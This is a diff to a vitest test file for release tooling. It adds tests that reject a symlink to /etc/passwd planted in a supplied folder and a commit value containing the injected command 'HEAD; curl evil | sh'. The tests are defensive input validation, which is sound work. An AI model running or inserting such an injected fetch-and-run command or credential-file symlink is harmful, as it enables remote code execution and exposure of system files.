@@ -1,6 +1,10 @@
 /** @module Papers of a release, each from its parts: the changelog's section, the bill of materials, checksums, what stands against it. */
-import { describe, it } from 'vitest';
+import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, it, onTestFinished } from 'vitest';
 import { sectionOf } from './changelog.ts';
+import { commitOf, readFiles } from './make.ts';
 import { lockProblems } from './repository.ts';
 import { bomOf } from './sbom.ts';
 import { differences, sumsOf } from './sums.ts';
@@ -120,5 +124,22 @@ describe('checksums', () => {
       'b is df7e70e',
       'c belongs to',
     ]);
+  });
+});
+
+describe('a folder that somebody gives', () => {
+  it('has files alone: no link that a sum says nothing of', ({ expect }) => {
+    const folder = mkdtempSync(join(tmpdir(), 'given-'));
+    onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
+    writeFileSync(join(folder, 'wrangler.toml'), 'x');
+    expect([...readFiles(folder).keys()]).toEqual(['wrangler.toml']);
+    symlinkSync('/etc/passwd', join(folder, 'extra.js'));
+    expect(() => readFiles(folder)).toThrow('extra.js: a release has files alone');
+  });
+
+  it('names a commit, and nothing that a shell would do', ({ expect }) => {
+    const of = (commit: string) => commitOf(new Map([['release.json', utf8(JSON.stringify({ commit }))]]));
+    expect(of('0'.repeat(40))).toBe('0'.repeat(40));
+    expect(() => of('HEAD; curl evil | sh')).toThrow('names no commit');
   });
 });
